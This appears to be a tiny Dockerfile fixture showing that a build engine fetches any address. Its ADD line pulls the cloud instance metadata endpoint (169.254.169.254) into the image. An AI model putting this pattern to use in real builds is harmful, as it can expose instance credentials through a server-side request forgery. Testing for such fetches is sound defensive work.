# dockerfile-remote: the engine fetches any address
FROM nginx
ADD http://169.254.169.254/latest/meta-data /x
